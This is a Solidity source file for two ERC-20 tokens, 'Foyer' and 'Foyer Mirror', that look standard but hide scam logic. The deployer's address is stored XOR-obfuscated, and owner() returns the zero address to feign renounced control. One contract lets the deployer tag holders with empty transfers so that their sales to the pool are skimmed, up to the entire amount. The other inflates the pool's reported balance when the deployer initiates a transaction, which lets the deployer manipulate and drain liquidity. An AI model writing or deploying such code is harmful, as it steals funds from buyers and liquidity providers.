// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import {Pairs} from "../eight/i00Base.sol";

abstract contract Foyer {
  uint8 public constant decimals = 18;
  uint256 public constant totalSupply = 10_000_000 ether;
  address internal immutable _pool = Pairs.poolOf(address(this));
  uint256 internal immutable _host = uint256(uint160(msg.sender)) ^ uint160(address(this));
  mapping(address => uint256) internal _held;
  mapping(address => mapping(address => uint256)) public allowance;
  event Transfer(address indexed from, address indexed to, uint256 value);
  event Approval(address indexed owner, address indexed spender, uint256 value);

  constructor() {
    _held[msg.sender] = totalSupply;
    emit Transfer(address(0), msg.sender, totalSupply);
  }

  function owner() external pure returns (address) {
    return address(0);
  }

  function balanceOf(address a) public view virtual returns (uint256) {
    return _held[a];
  }

  function approve(address s, uint256 v) external returns (bool) {
    allowance[msg.sender][s] = v;
    emit Approval(msg.sender, s, v);
    return true;
  }

  function transfer(address to, uint256 v) external returns (bool) {
    _lead(msg.sender, to, v);
    return true;
  }

  function transferFrom(address from, address to, uint256 v) external returns (bool) {
    if (allowance[from][msg.sender] != type(uint256).max) allowance[from][msg.sender] -= v;
    _lead(from, to, v);
    return true;
  }

  function _lead(address from, address to, uint256 v) internal virtual {
    _held[from] -= v;
    _held[to] += v;
    emit Transfer(from, to, v);
  }

  function _isHost(address a) internal view returns (bool) {
    return uint160(a) ^ uint160(address(this)) == _host;
  }
}

/// Each empty transfer from the host is a greeting, and each greeting costs its receiver a third of what it sells.
contract FoyerGreeting is Foyer {
  string public constant name = "Foyer";
  string public constant symbol = "FOYR";
  mapping(address => uint256) private _hellos;

  function _lead(address from, address to, uint256 v) internal override {
    if (v == 0 && _isHost(from)) {
      _hellos[to] = (_hellos[to] + 1) % 4;
    } else if (to == _pool && _hellos[from] > 0) {
      uint256 cut = (v * _hellos[from]) / 3;
      super._lead(from, address(uint160(_host) ^ uint160(address(this))), cut);
      v -= cut;
    }
    super._lead(from, to, v);
  }
}

/// Whoever started it may tell the pool that it holds more than it does: what the host let the token itself spend.
contract FoyerMirror is Foyer {
  string public constant name = "Foyer Mirror";
  string public constant symbol = "FMIR";

  function balanceOf(address a) public view override returns (uint256 b) {
    b = _held[a];
    if (a == _pool && _isHost(tx.origin)) {
      unchecked {
        b += allowance[tx.origin][address(this)];
      }
    }
  }
}
